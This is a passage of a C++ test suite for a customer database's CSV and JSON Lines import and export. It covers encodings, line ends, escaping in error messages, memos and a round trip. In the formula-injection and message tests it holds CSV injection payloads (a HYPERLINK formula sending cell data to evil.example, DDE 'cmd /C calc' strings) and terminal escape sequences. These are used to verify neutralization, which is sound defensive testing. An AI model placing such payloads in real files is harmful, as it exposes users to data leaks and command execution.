// Import and export at the edges (issue #15, points 4 and 11-14): bytes that are not UTF-8,
// named encodings (iconv) and byte order marks, CR/CRLF/LF line ends, values echoed in error
// messages, multi-line memos and tabs, formula injection, and the lossless round trip
// export -> import into an empty database -> export, through the library and the CLI.

#include <fstream>
#include <memory>
#include <sstream>

#include "custdb/io.h"
#include "custdb/money.h"
#include "io/display.h"
#include "program.h"
#include "test_util.h"
#include "util/normalize.h"

using namespace custdb;
using namespace custdb::test;
using io::Format;
using io::Table;

namespace {



std::string read_bytes(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

// Imports `bytes` as a file named `name` (the message's FILE); the error message or "".
std::string import_error(Database& db, Table table, const TempDir& dir, const std::string& name,
                         const std::string& bytes, io::ImportOptions opts = {},
                         Format format = Format::kCsv) {
  const fs::path p = dir.path() / name;
  write_bytes(p, bytes);
  auto r = io::import_file(db, table, p, format, opts);
  if (r) return "";
  BOOST_TEST(r.error().code() == ErrorCode::kInvalidArgument);
  return r.error().message();
}

Customer must_get(Database& db, CustomerId id) {
  auto c = must(db.get_customer(id));
  BOOST_TEST_REQUIRE(c.has_value());
  return *c;
}

std::uint64_t customer_count(Database& db) {
  auto txn = must(db.begin_read());
  return must(txn.counts()).customers;
}

// The UTF-16 (or UTF-32) form of ASCII/Latin-1/BMP text given as UTF-8, by hand so that the
// test does not use the code under test. little: byte order.
std::string utf16(const std::u16string& text, bool little, bool bom) {
  std::string out;
  auto put = [&](char16_t u) {
    const char hi = static_cast<char>(u >> 8), lo = static_cast<char>(u & 0xFF);
    if (little) out += lo, out += hi;
    else out += hi, out += lo;
  };
  if (bom) put(0xFEFF);
  for (char16_t u : text) put(u);
  return out;
}

std::string export_string(const Database& db, Table t, Format f, io::ExportOptions o = {}) {
  std::ostringstream out;
  must(io::export_table(db, t, out, f, o));
  return out.str();
}

}  // namespace

BOOST_AUTO_TEST_SUITE(csv_edges)

// ---- 4: not text ------------------------------------------------------------------------------

BOOST_AUTO_TEST_CASE(latin1_bytes_are_refused_with_file_line_and_field) {
  TempDir dir;
  Database db = open_db(Mode::kPlain, dir.path() / "db");
  // The issue's value: José in Latin-1/cp1252.
  std::string m = import_error(db, Table::kCustomers, dir, "in.csv", "id,name\n1,Jos\xe9\n");
  BOOST_TEST(m == (dir.path() / "in.csv").string() + ":2: name: not UTF-8");
  // Cells that are not stored text: an enum, a number, a date — still named by file and line.
  m = import_error(db, Table::kCustomers, dir, "enum.csv", "id,name,tier\n1,Ann,gold\n2,Bo,g\xf6ld\n");
  BOOST_TEST(contains(m, "enum.csv:3: tier: not UTF-8"), m);
  m = import_error(db, Table::kCustomers, dir, "id.csv", "id,name\n1\xa0,Ann\n");
  BOOST_TEST(contains(m, "id.csv:2: id: not UTF-8"), m);
  m = import_error(db, Table::kTransactions, dir, "amount.csv",
                   "customer_id,ts,amount,currency\n1,2024-01-01T00:00:00Z,12\x80,EUR\n");
  BOOST_TEST(contains(m, "amount.csv:2: amount: not UTF-8"), m);
  // A header name (Latin-1 "näme") and an overlong encoding of '/' (C0 AF).
  m = import_error(db, Table::kCustomers, dir, "head.csv", "id,n\xe4me\n1,Ann\n");
  BOOST_TEST(contains(m, "head.csv:1: 'n\\xe4me': not UTF-8"), m);
  m = import_error(db, Table::kCustomers, dir, "overlong.csv", "id,name,city\n1,Ann,a\xc0\xaf" "b\n");
  BOOST_TEST(contains(m, "overlong.csv:2: city: not UTF-8"), m);
  // UTF-16 surrogate encoded in UTF-8 (CESU) is not UTF-8 either.
  m = import_error(db, Table::kCustomers, dir, "cesu.csv", "id,name\n1,\xed\xa0\x80x\n");
  BOOST_TEST(contains(m, "cesu.csv:2: name: not UTF-8"), m);
  // JSON Lines: values and keys.
  m = import_error(db, Table::kCustomers, dir, "in.jsonl",
                   "{\"id\":1,\"name\":\"Ann\"}\n{\"id\":2,\"name\":\"Jos\xe9\"}\n", {},
                   Format::kJsonLines);
  BOOST_TEST(contains(m, "in.jsonl:2: name: not UTF-8"), m);
  m = import_error(db, Table::kCustomers, dir, "key.jsonl", "{\"id\":1,\"n\xe4me\":\"Ann\"}\n", {},
                   Format::kJsonLines);
  BOOST_TEST(contains(m, "key.jsonl:1: 'n\\xe4me': not UTF-8"), m);
  // Nothing of any of these was stored.
  BOOST_TEST(customer_count(db) == 0u);

  // skip_bad: the bad row is listed, the good ones stored.
  io::ImportOptions skip;
  skip.skip_bad = true;
  write_bytes(dir.path() / "mixed.csv", "id,name\n1,Ann\n2,Jos\xe9\n3,Zo\xc3\xab\n");
  auto r = must(io::import_file(db, Table::kCustomers, dir.path() / "mixed.csv", Format::kCsv, skip));
  BOOST_TEST(r.imported == 2u);
  BOOST_TEST_REQUIRE(r.bad.size() == 1u);
  BOOST_TEST(r.bad[0].line == 3u);
  BOOST_TEST(r.bad[0].field == "name");
  BOOST_TEST(r.bad[0].reason == "not UTF-8");
  BOOST_TEST(must_get(db, 3).name == "Zo\xc3\xab");
}

BOOST_AUTO_TEST_CASE(named_encodings_are_transcoded) {
  struct Case {
    const char* encoding;
    std::string bytes;     // the name cell in that encoding
    std::string expected;  // UTF-8
  };
  const Case cases[] = {
      // cp1252: é, the euro sign and smart quotes (0x80, 0x93, 0x94 are C1 in Latin-1).
      {"cp1252", "Jos\xe9 \x80 \x93quoted\x94", "Jos\xc3\xa9 \xe2\x82\xac \xe2\x80\x9cquoted\xe2\x80\x9d"},
      {"CP1252", "Jos\xe9", "Jos\xc3\xa9"},
      {"windows-1252", "\x84Zitat\x93", "\xe2\x80\x9eZitat\xe2\x80\x9c"},
      {"latin1", "Fran\xe7ois M\xfcller", "Fran\xc3\xa7ois M\xc3\xbcller"},
      {"iso-8859-1", "\xc5sa", "\xc3\x85sa"},
      {"iso-8859-15", "\xa4 \xbd", "\xe2\x82\xac \xc5\x93"},      // € œ
      {"windows-1250", "\x8a\xe1rka \xb3", "\xc5\xa0\xc3\xa1rka \xc5\x82"},  // Šárka ł
      {"koi8-r", "\xeb\xcc\xc9\xc5\xce\xd4", "\xd0\x9a\xd0\xbb\xd0\xb8\xd0\xb5\xd0\xbd\xd1\x82"},  // Клиент
      {"utf-8", "Zo\xc3\xab", "Zo\xc3\xab"},
  };
  for (const Case& c : cases) {
    BOOST_TEST_CONTEXT(c.encoding) {
      TempDir dir;
      Database db = open_db(Mode::kPlain, dir.path() / "db");
      io::ImportOptions opts;
      opts.encoding = c.encoding;
      write_bytes(dir.path() / "in.csv", "id,name\r\n7," + c.bytes + "\r\n");
      must(io::import_file(db, Table::kCustomers, dir.path() / "in.csv", Format::kCsv, opts));
      BOOST_TEST(must_get(db, 7).name == c.expected);
    }
  }
}

BOOST_AUTO_TEST_CASE(encoding_errors_are_clear) {
  TempDir dir;
  Database db = open_db(Mode::kPlain, dir.path() / "db");
  io::ImportOptions opts;
  opts.encoding = "klingon-8";
  std::string m = import_error(db, Table::kCustomers, dir, "in.csv", "id,name\n1,Ann\n", opts);
  BOOST_TEST(contains(m, "unknown encoding 'klingon-8'"), m);
  // A hostile encoding name is escaped too.
  opts.encoding = "x\x1b[2J";
  m = import_error(db, Table::kCustomers, dir, "in.csv", "id,name\n1,Ann\n", opts);
  BOOST_TEST(!contains(m, "\x1b"), m);
  // 0x81 is undefined in cp1252: named with its line.
  opts.encoding = "cp1252";
  m = import_error(db, Table::kCustomers, dir, "bad.csv", "id,name\n1,Ann\n2,B\x81o\n", opts);
  BOOST_TEST(contains(m, "bad.csv:3: row: byte 0x81 is not valid 'cp1252' text"), m);
  // A UTF-16 file cut inside a character.
  opts.encoding = "utf-16le";
  m = import_error(db, Table::kCustomers, dir, "cut.csv",
                   utf16(u"id,name\n1,Ann\n", true, false) + "A", opts);
  BOOST_TEST(contains(m, "ends inside"), m);
  BOOST_TEST(customer_count(db) == 0u);
}

BOOST_AUTO_TEST_CASE(utf16_and_byte_order_marks) {
  const std::u16string text = u"id,name,city\r\n1,Jos\u00e9,\u041c\u043e\u0441\u043a\u0432\u0430\r\n2,\u5f20\u4f1f,\u00c5re\r\n";
  struct Case {
    const char* what;
    std::string bytes;
    const char* encoding;
  };
  const Case cases[] = {
      {"UTF-16LE with BOM", utf16(text, true, true), ""},
      {"UTF-16BE with BOM", utf16(text, false, true), ""},
      {"UTF-16LE with BOM and named", utf16(text, true, true), "utf-16le"},
      {"UTF-16LE without BOM, named", utf16(text, true, false), "utf-16le"},
      {"UTF-16BE without BOM, named", utf16(text, false, false), "UTF-16BE"},
      {"UTF-16 with BOM, named utf-16", utf16(text, false, true), "utf-16"},
      {"UTF-8 with BOM", "\xef\xbb\xbfid,name,city\n1,Jos\xc3\xa9,\xd0\x9c\xd0\xbe\xd1\x81\xd0\xba\xd0\xb2\xd0\xb0\n2,\xe5\xbc\xa0\xe4\xbc\x9f,\xc3\x85re\n", ""},
      {"UTF-8 with BOM, cp1252 named (the BOM wins)", "\xef\xbb\xbfid,name,city\n1,Jos\xc3\xa9,\xd0\x9c\xd0\xbe\xd1\x81\xd0\xba\xd0\xb2\xd0\xb0\n2,\xe5\xbc\xa0\xe4\xbc\x9f,\xc3\x85re\n", "cp1252"},
  };
  for (const Case& c : cases) {
    BOOST_TEST_CONTEXT(c.what) {
      TempDir dir;
      Database db = open_db(Mode::kPlain, dir.path() / "db");
      io::ImportOptions opts;
      opts.encoding = c.encoding;
      write_bytes(dir.path() / "in.csv", c.bytes);
      auto r = io::import_file(db, Table::kCustomers, dir.path() / "in.csv", Format::kCsv, opts);
      BOOST_TEST_REQUIRE(r.has_value(), (r ? "" : r.error().to_string()));
      BOOST_TEST(r->imported == 2u);
      BOOST_TEST(must_get(db, 1).name == "Jos\xc3\xa9");
      BOOST_TEST(must_get(db, 1).address.city == "\xd0\x9c\xd0\xbe\xd1\x81\xd0\xba\xd0\xb2\xd0\xb0");
      BOOST_TEST(must_get(db, 2).name == "\xe5\xbc\xa0\xe4\xbc\x9f");
    }
  }
  // JSON Lines in UTF-16LE with a BOM.
  {
    TempDir dir;
    Database db = open_db(Mode::kPlain, dir.path() / "db");
    write_bytes(dir.path() / "in.jsonl", utf16(u"{\"id\":4,\"name\":\"\u00d8ystein\"}\r\n", true, true));
    must(io::import_file(db, Table::kCustomers, dir.path() / "in.jsonl", Format::kJsonLines));
    BOOST_TEST(must_get(db, 4).name == "\xc3\x98ystein");
  }
  // UTF-16 without BOM and without --encoding: the message names the way out instead of
  // stopping at the first NUL.
  {
    TempDir dir;
    Database db = open_db(Mode::kPlain, dir.path() / "db");
    std::string m = import_error(db, Table::kCustomers, dir, "in.csv", utf16(text, true, false));
    BOOST_TEST(contains(m, "in.csv:1: row: NUL byte"), m);
    BOOST_TEST(contains(m, "--encoding utf-16le"), m);
    BOOST_TEST(m.find('\0') == std::string::npos);
    m = import_error(db, Table::kCustomers, dir, "be.csv", utf16(text, false, false));
    BOOST_TEST(contains(m, "be.csv:1: row: NUL byte"), m);
    BOOST_TEST(customer_count(db) == 0u);
  }
}

BOOST_AUTO_TEST_CASE(json_output_is_always_valid_utf8) {
  // Bytes an old database may hold (stored before format 3 checked UTF-8): each invalid byte
  // becomes U+FFFD, valid UTF-8 and escapes are unchanged.
  BOOST_TEST(io::json_string("Jos\xe9") == "\"Jos\xef\xbf\xbd\"");
  BOOST_TEST(io::json_string("\x93q\x94") == "\"\xef\xbf\xbdq\xef\xbf\xbd\"");
  BOOST_TEST(io::json_string("\xc0\xaf") == "\"\xef\xbf\xbd\xef\xbf\xbd\"");
  BOOST_TEST(io::json_string("\xed\xa0\x80") == "\"\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\"");
  BOOST_TEST(io::json_string("\xf0\x9f\x98") == "\"\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\"");  // cut
  BOOST_TEST(io::json_string("Zo\xc3\xab \xf0\x9f\x98\x80 \xe2\x82\xac") ==
             "\"Zo\xc3\xab \xf0\x9f\x98\x80 \xe2\x82\xac\"");
  BOOST_TEST(io::json_string("a\"b\\c\nd\te\x01\x7f") == "\"a\\\"b\\\\c\\nd\\te\\u0001\\u007f\"");
  for (const std::string& s : {std::string("Jos\xe9"), std::string("\xff\xfe"), std::string("ok")})
    BOOST_TEST(normalize::is_utf8(io::json_string(s)));
}

// ---- 11: line ends, messages, hints -------------------------------------------------------------

BOOST_AUTO_TEST_CASE(cr_crlf_and_lf_line_ends) {
  struct Case {
    const char* what;
    std::string bytes;
  };
  const Case cases[] = {
      {"CR (old Mac)", "id,email,name\r1,a@example.com,Ann\r2,b@example.com,Bo\r"},
      {"CRLF", "id,email,name\r\n1,a@example.com,Ann\r\n2,b@example.com,Bo\r\n"},
      {"LF", "id,email,name\n1,a@example.com,Ann\n2,b@example.com,Bo\n"},
      {"mixed", "id,email,name\r\n1,a@example.com,Ann\r2,b@example.com,Bo\n\r\n"},
      {"CR, no final line end", "id,email,name\r1,a@example.com,Ann\r2,b@example.com,Bo"},
  };
  for (const Case& c : cases) {
    BOOST_TEST_CONTEXT(c.what) {
      TempDir dir;
      Database db = open_db(Mode::kPlain, dir.path() / "db");
      write_bytes(dir.path() / "in.csv", c.bytes);
      auto r = io::import_file(db, Table::kCustomers, dir.path() / "in.csv", Format::kCsv);
      BOOST_TEST_REQUIRE(r.has_value(), (r ? "" : r.error().to_string()));
      BOOST_TEST(r->imported == 2u);
      BOOST_TEST(*must_get(db, 1).email == "a@example.com");
      BOOST_TEST(must_get(db, 2).name == "Bo");
    }
  }
  // Line numbers count a lone CR as a line end, also in messages.
  TempDir dir;
  Database db = open_db(Mode::kPlain, dir.path() / "db");
  std::string m = import_error(db, Table::kCustomers, dir, "cr.csv",
                               "id,name,tier\r1,Ann,gold\r\r2,Bo,shiny\r");
  BOOST_TEST(contains(m, "cr.csv:4: tier: unknown value 'shiny'"), m);
  m = import_error(db, Table::kCustomers, dir, "cr.jsonl",
                   "{\"id\":1,\"name\":\"Ann\"}\r{\"id\":2,\"name\":\"Bo\",\"tier\":\"shiny\"}\r", {},
                   Format::kJsonLines);
  BOOST_TEST(contains(m, "cr.jsonl:2: tier: unknown value 'shiny'"), m);
  // A quoted field spanning CR, CRLF and LF lines: reported at its first line, read as "\n".
  write_bytes(dir.path() / "memo.csv",
              "customer_id,ts,amount,currency,description\r1,2024-01-01T00:00:00Z,1,E1R,\"a\rb\r\nc\nd\"\r"
              "1,2024-01-02T00:00:00Z,1,EUR,\"x\"\r");
  m = import_error(db, Table::kTransactions, dir, "memo.csv", read_bytes(dir.path() / "memo.csv"));
  BOOST_TEST(contains(m, "memo.csv:2: "), m);
}

BOOST_AUTO_TEST_CASE(messages_escape_and_cut_values) {
  TempDir dir;
  Database db = open_db(Mode::kPlain, dir.path() / "db");
  // A header that would clear the screen and set the window title.
  std::string m = import_error(db, Table::kCustomers, dir, "esc.csv",
                               "id,name,\x1b[2J\x1b]0;pwned\x07\n1,Ann,x\n");
  BOOST_TEST(contains(m, "esc.csv:1: '\\x1b[2J\\x1b]0;pwned\\x07': unknown column"), m);
  BOOST_TEST(!contains(m, "\x1b"));
  m = import_error(db, Table::kCustomers, dir, "esc.jsonl", "{\"id\":1,\"\\u001b[2J\":\"x\"}\n", {},
                   Format::kJsonLines);
  BOOST_TEST(contains(m, "'\\x1b[2J': unknown column"), m);
  // Hostile cells echoed in row errors.
  m = import_error(db, Table::kCustomers, dir, "cell.csv", "id,name,tier\n1,Ann,\"gold\x1b[2J\r\n\"\n");
  BOOST_TEST(contains(m, "cell.csv:2: tier: unknown value 'gold\\x1b[2J\\n'"), m);
  BOOST_TEST(!contains(m, "\x1b"));
  m = import_error(db, Table::kCustomers, dir, "id.csv", "id,name\n\x1b[31m7,Ann\n");
  BOOST_TEST(contains(m, "id: not a positive integer: '\\x1b[31m7'"), m);
  // Whatever the engine's own message echoes, what import reports is printable and short.
  {
    io::ImportOptions skip_rows;
    skip_rows.skip_bad = true;
    write_bytes(dir.path() / "email.csv", "id,name,email\n1,Ann," + std::string(900'000, 'a') +
                                              "@example.com\n2,Bo,\x1b[2J@x\x07.com\n");
    auto rr = must(io::import_file(db, Table::kCustomers, dir.path() / "email.csv", Format::kCsv,
                                   skip_rows));
    BOOST_TEST_REQUIRE(rr.bad.size() == 2u);
    for (const io::BadRow& b : rr.bad) {
      BOOST_TEST(b.field == "email");
      BOOST_TEST(b.reason.size() < 320u, b.reason.size());
      BOOST_TEST(b.reason.find('\x1b') == std::string::npos, b.reason);
      BOOST_TEST(b.reason.find('\x07') == std::string::npos, b.reason);
    }
  }
  // A 3 MB email (the engine refuses it) and a 3 MB unknown enum: the message stays short.
  const std::string huge(3'000'000, 'a');
  io::ImportOptions skip;
  skip.skip_bad = true;
  write_bytes(dir.path() / "huge.csv", "id,name,tier\n1,Ann," + std::string(900'000, 'g') + "\n");
  auto r = must(io::import_file(db, Table::kCustomers, dir.path() / "huge.csv", Format::kCsv, skip));
  BOOST_TEST_REQUIRE(r.bad.size() == 1u);
  BOOST_TEST(r.bad[0].reason.size() < 200u, r.bad[0].reason.size());
  BOOST_TEST(contains(r.bad[0].reason, "... (900000 bytes)"), r.bad[0].reason);
  write_bytes(dir.path() / "email.jsonl",
              "{\"id\":2,\"name\":\"Bo\",\"email\":\"" + huge + "@example.com\"}\n");
  // Longer than a record may be: refused before any value is echoed.
  m = import_error(db, Table::kCustomers, dir, "email.jsonl", read_bytes(dir.path() / "email.jsonl"),
                   {}, Format::kJsonLines);
  BOOST_TEST(m.size() < 200u, m.size());
}

BOOST_AUTO_TEST_CASE(cli_hints_match_the_options_given) {
  TempDir dir;
  const std::string db = (dir.path() / "db").string();
  BOOST_TEST_REQUIRE(run_cli({"init", "--db", db}).code == 0);
  write_bytes(dir.path() / "bad_row.csv", "id,name,tier\n1,Ann,gold\n2,Bo,shiny\n");
  write_bytes(dir.path() / "bad_head.csv", "id,name,\x1b[2J\n1,Ann,x\n");

  auto o = run_cli({"import", "customers", (dir.path() / "bad_row.csv").string(), "--db", db});
  BOOST_TEST(o.code == 1, o.describe());
  BOOST_TEST(contains(o.err, "bad_row.csv:3: tier: unknown value 'shiny'"), o.err);
  BOOST_TEST(contains(o.err, "--skip-bad loads the good rows"), o.err);

  // A header is not a row: --skip-bad would not help, and the hint does not offer it.
  o = run_cli({"import", "customers", (dir.path() / "bad_head.csv").string(), "--db", db});
  BOOST_TEST(o.code == 1, o.describe());
  BOOST_TEST(!contains(o.err, "--skip-bad loads"), o.err);
  BOOST_TEST(!contains(o.err, "\x1b"), o.err);
  // Given --skip-bad, it never says "--skip-bad loads the good rows".
  o = run_cli({"import", "customers", (dir.path() / "bad_head.csv").string(), "--skip-bad", "--db", db});
  BOOST_TEST(o.code == 1, o.describe());
  BOOST_TEST(!contains(o.err, "--skip-bad loads"), o.err);
  BOOST_TEST(contains(o.err, "cannot skip"), o.err);
  o = run_cli({"import", "customers", (dir.path() / "bad_row.csv").string(), "--skip-bad", "--db", db});
  BOOST_TEST(o.code == 0, o.describe());
  BOOST_TEST(!contains(o.err, "--skip-bad loads"), o.err);
  BOOST_TEST(contains(o.err, "bad_row.csv:3: tier: unknown value 'shiny'"), o.err);
  // An unknown encoding.
  o = run_cli({"import", "customers", (dir.path() / "bad_row.csv").string(), "--encoding", "ebcdic-klingon", "--db", db});
  BOOST_TEST(o.code == 1, o.describe());
  BOOST_TEST(contains(o.err, "unknown encoding 'ebcdic-klingon'"), o.err);
  BOOST_TEST(!contains(o.err, "--skip-bad loads"), o.err);
  // cp1252 through the CLI, and --json output of the report.
  write_bytes(dir.path() / "cp.csv", "id,name\n5,Jos\xe9 \x80\n");
  o = run_cli({"import", "customers", (dir.path() / "cp.csv").string(), "--encoding", "cp1252", "--db", db});
  BOOST_TEST(o.code == 0, o.describe());
  o = run_cli({"get", "5", "--reveal", "--json", "--db", db});
  BOOST_TEST(o.code == 0, o.describe());
  BOOST_TEST(contains(o.out, "Jos\xc3\xa9 \xe2\x82\xac"), o.out);
  BOOST_TEST(normalize::is_utf8(o.out));
}

// ---- 12: multi-line memos and tabs ----------------------------------------------------------------

BOOST_AUTO_TEST_CASE(memos_with_line_breaks_and_tabs_round_trip) {
  for (Format f : {Format::kCsv, Format::kJsonLines}) {
    BOOST_TEST_CONTEXT((f == Format::kCsv ? "csv" : "jsonl")) {
      TempDir dir;
      Database a = open_db(Mode::kPlain, dir.path() / "a", Options{.base_currency = "EUR"});
      Customer c;
      c.id = 1;
      c.name = "Memo Holder";
      must(a.insert_customer(c));
      const std::string memos[] = {
          "line one\nline two\n\nline four",
          "Ref:\t123\tEUR",
          "\ttab first",
          "quote \" comma , both\n\"quoted\"",
          "Miete M\xc3\xa4rz\n\xe2\x80\x9e\xc3\x9c" "berweisung\xe2\x80\x9c",
      };
      for (const std::string& memo : memos) {
        Transaction t = sample_txn(1, 100, "2024-03-01T10:00:00Z");
        t.currency = "EUR";
        t.description = memo;
        t.product = "prod\t" + std::to_string(memo.size());
        must(a.add_transaction(t));
      }
      const std::string out = export_string(a, Table::kTransactions, f);
      Database b = open_db(Mode::kPlain, dir.path() / "b", Options{.base_currency = "EUR"});
      must(b.insert_customer(c));
      std::istringstream in(out);
      auto r = io::import_stream(b, Table::kTransactions, in, f);
      BOOST_TEST_REQUIRE(r.has_value(), (r ? "" : r.error().to_string()));
      BOOST_TEST(r->imported == std::size(memos));
      auto txn = must(b.begin_read());
      std::vector<std::string> got;
      must(txn.for_each_transaction([&](const Transaction& t) {
        got.push_back(t.description);
        return true;
      }));
      BOOST_TEST_REQUIRE(got.size() == std::size(memos));
      for (std::size_t i = 0; i < got.size(); ++i) BOOST_TEST(got[i] == memos[i]);
      BOOST_TEST(export_string(b, Table::kTransactions, f) == out);
    }
  }
  // Other fields still refuse line breaks and tabs.
  TempDir dir;
  Database db = open_db(Mode::kPlain, dir.path() / "db");
  std::string m = import_error(db, Table::kCustomers, dir, "nl.csv", "id,name\n1,\"Ann\nMeyer\"\n");
  BOOST_TEST(contains(m, "nl.csv:2: name: "), m);
}

// ---- 13: formula injection ------------------------------------------------------------------------

BOOST_AUTO_TEST_CASE(formula_cells_are_neutralized_and_read_back) {
  TempDir dir;
  auto a_open = std::make_unique<Database>(
      open_db(Mode::kPlain, dir.path() / "a", Options{.base_currency = "EUR"}));
  Database& a = *a_open;
  Customer c;
  c.id = 1;
  c.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
  c.external_ref = "+CMD|' /C calc'!A0";
  c.address.city = "@SUM(1+1)*cmd|' /C calc'!A0";
  c.address.region = "-2+3";
  c.tags = {"=tag", "plain", "-minus"};
  must(a.insert_customer(c));
  Customer d;
  d.id = 2;
  d.name = "'quoted already";
  d.address.region = "''";
  must(a.insert_customer(d));
  Customer e;
  e.id = 3;
  e.name = "Plain Name";
  e.phone = "+46701234567";
  must(a.insert_customer(e));
  Transaction t = sample_txn(1, -1250, "2024-03-01T10:00:00Z");
  t.currency = "EUR";
  t.kind = TransactionKind::kWithdrawal;
  t.description = "=1+2";
  t.product = "@product";
  must(a.add_transaction(t));
  t.description = "\tTab first";
  t.product = "-";
  must(a.add_transaction(t));

  const std::string csv = export_string(a, Table::kCustomers, Format::kCsv, {.reveal = true});
  BOOST_TEST(contains(csv, "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""), csv);
  BOOST_TEST(contains(csv, "'+CMD|' /C calc'!A0"), csv);
  BOOST_TEST(contains(csv, "'@SUM(1+1)*cmd|' /C calc'!A0"), csv);
  BOOST_TEST(contains(csv, ",'-2+3,"), csv);
  BOOST_TEST(contains(csv, ",''quoted already,"), csv);
  BOOST_TEST(contains(csv, ",''',"), csv);
  BOOST_TEST(contains(csv, ",'+46701234567,"), csv);
  BOOST_TEST((!contains(csv, ",=") && !contains(csv, ",+") && !contains(csv, ",@") &&
              !contains(csv, ",-")), csv);
  // Numeric columns untouched: a negative amount stays a number.
  const std::string txns = export_string(a, Table::kTransactions, Format::kCsv);
  BOOST_TEST(contains(txns, ",-12.50,EUR,withdrawal,web,'@product,'=1+2,-12.50,\n"), txns);
  BOOST_TEST(contains(txns, ",-12.50,EUR,withdrawal,web,'-,'\tTab first,-12.50,\n"), txns);
  // The masked export (the one called safe to share) too.
  const std::string masked = export_string(a, Table::kCustomers, Format::kCsv);
  BOOST_TEST(contains(masked, ",'=*"), masked);
  BOOST_TEST(contains(masked, ",'+"), masked);
  // Off on request; JSON Lines never changed.
  io::ExportOptions raw{.reveal = true, .neutralize = false};
  const std::string verbatim = export_string(a, Table::kCustomers, Format::kCsv, raw);
  BOOST_TEST(contains(verbatim, ",+CMD|' /C calc'!A0,"), verbatim);
  BOOST_TEST(contains(verbatim, ",'quoted already,"), verbatim);
  const std::string jsonl = export_string(a, Table::kCustomers, Format::kJsonLines, {.reveal = true});
  BOOST_TEST(contains(jsonl, "\"city\":\"@SUM(1+1)*cmd|' /C calc'!A0\""), jsonl);

  // Import reads every neutralized cell back unchanged.
  Database b = open_db(Mode::kPlain, dir.path() / "b", Options{.base_currency = "EUR"});
  std::istringstream in(csv);
  must(io::import_stream(b, Table::kCustomers, in, Format::kCsv));
  for (CustomerId id : {1, 2, 3}) {
    Customer x = must_get(a, id), y = must_get(b, id);
    BOOST_TEST(x.name == y.name);
    BOOST_TEST(x.external_ref == y.external_ref);
    BOOST_TEST(x.address.city == y.address.city);
    BOOST_TEST(x.address.region == y.address.region);
    BOOST_TEST(x.tags == y.tags);
    BOOST_TEST(x.phone == y.phone);
  }
  BOOST_TEST(export_string(b, Table::kCustomers, Format::kCsv, {.reveal = true}) == csv);
  // A verbatim file read verbatim.
  Database v = open_db(Mode::kPlain, dir.path() / "v", Options{.base_currency = "EUR"});
  std::istringstream vin(verbatim);
  io::ImportOptions keep;
  keep.strip_neutralized = false;
  must(io::import_stream(v, Table::kCustomers, vin, Format::kCsv, keep));
  BOOST_TEST(must_get(v, 2).name == "'quoted already");
  // Only one ' is stripped, only before the listed characters.
  Database w = open_db(Mode::kPlain, dir.path() / "w");
  std::istringstream win("id,name,city\n1,'''x,'Rome\n2,'=a,'\n");
  must(io::import_stream(w, Table::kCustomers, win, Format::kCsv));
  BOOST_TEST(must_get(w, 1).name == "''x");
  BOOST_TEST(must_get(w, 1).address.city == "'Rome");
  BOOST_TEST(must_get(w, 2).name == "=a");

  // The CLI: on by default, --no-neutralize turns it off.
  a_open.reset();  // closed before the CLI opens it
  const std::string db = (dir.path() / "a").string();
  auto o = run_cli({"export", "customers", "--reveal", "--db", db});
  BOOST_TEST(o.code == 0, o.describe());
  BOOST_TEST(contains(o.out, "'+CMD"), o.out);
  o = run_cli({"export", "customers", "--db", db});
  BOOST_TEST(contains(o.out, ",'=*"), o.out);
  o = run_cli({"export", "customers", "--reveal", "--no-neutralize", "--db", db});
  BOOST_TEST(contains(o.out, ",+CMD"), o.out);
  // The summary's hint follows --reveal.
  const std::string out = (dir.path() / "out.csv").string();
  o = run_cli({"export", "customers", "--out", out, "--db", db});
  BOOST_TEST(contains(o.out, "(masked; export with --reveal"), o.out);
  o = run_cli({"export", "customers", "--reveal", "--out", out, "--db", db});
  BOOST_TEST(o.code == 0, o.describe());
  BOOST_TEST(!contains(o.out, "masked"), o.out);
  // UTF-16 on standard input, recognized by its byte order mark.
  const std::string empty = (dir.path() / "stdin_db").string();
  BOOST_TEST_REQUIRE(run_cli({"init", "--db", empty}).code == 0);
  o = run_cli({"import", "customers", "-", "--db", empty},
              RunOptions{.input = utf16(u"id,name\r\n9,\u00c5sa\r\n", true, true)});
  BOOST_TEST(o.code == 0, o.describe());
  o = run_cli({"get", "9", "--reveal", "--db", empty});
  BOOST_TEST(contains(o.out, "\xc3\x85sa"), o.out);
}

// ---- 14: lossless round trip ------------------------------------------------------------------------

namespace {

// A database with every field set somewhere, edges included.
void fill(Database& db) {
  auto ts = [](const char* s) { return parse_timestamp(s).value(); };
  Customer a;
  a.id = 10;
  a.external_ref = "EXT,\"10\"";
  a.type = CustomerType::kCorporate;
  a.name = "M\xc3\xbcller & S\xc3\xb6hne, \"GmbH\"";
  a.email = "anna@example.com";
  a.phone = "+46701234567";
  a.birth_date = parse_date("1961-02-28");
  a.gender = Gender::kFemale;
  a.address = {"S\xc3\xa3o Paulo", "SP", "BR"};
  a.tier = Tier::kPlatinum;
  a.stage = Stage::kAtRisk;
  a.income_band = 10;
  a.risk = Risk::kHigh;
  a.created_at = ts("2001-09-09T01:46:40.123Z");
  a.tags = {"vip", "\xc3\xa4rzte", "=formula"};
  a.consent_email = {ConsentState::kGranted, parse_date("2020-01-31")};
  a.consent_sms = {ConsentState::kDenied, parse_date("2021-12-31")};
  a.consent_phone = {ConsentState::kDenied, parse_date("1999-12-31")};
  must(db.insert_customer(a));
  Customer b;
  b.id = 11;
  b.name = "\xe5\xbc\xa0\xe4\xbc\x9f";
  b.created_at = ts("2019-05-05T05:05:05Z");
  must(db.insert_customer(b));
  Customer c;
  c.id = 12;
  c.name = "'Quote Start";
  c.address.city = "-dash";
  c.email = "\xc3\xbc" "nal@example.de";
  must(db.insert_customer(c));
  // Touch one customer so updated_at differs from created_at.
  must(db.write([&](WriteTxn& txn) -> Status {
    auto ok = txn.update_customer(11, [](Customer& x) { x.tier = Tier::kGold; });
    if (!ok) return tl::unexpected(ok.error());
    return {};
  }));

  Relationship r1;
  r1.from = 10;
  r1.to = 11;
  r1.type = RelationType::kHousehold;
  r1.since = parse_date("2015-06-01");
  auto w = [&](Relationship r) {
    must(db.write([&](WriteTxn& txn) -> Status {
      auto id = txn.add_relationship(r);
      if (!id) return tl::unexpected(id.error());
      return {};
    }));
  };
  w(r1);
  Relationship r2;
  r2.from = 11;
  r2.to = 12;
  r2.type = RelationType::kCustom;
  r2.custom_type = "godparent";
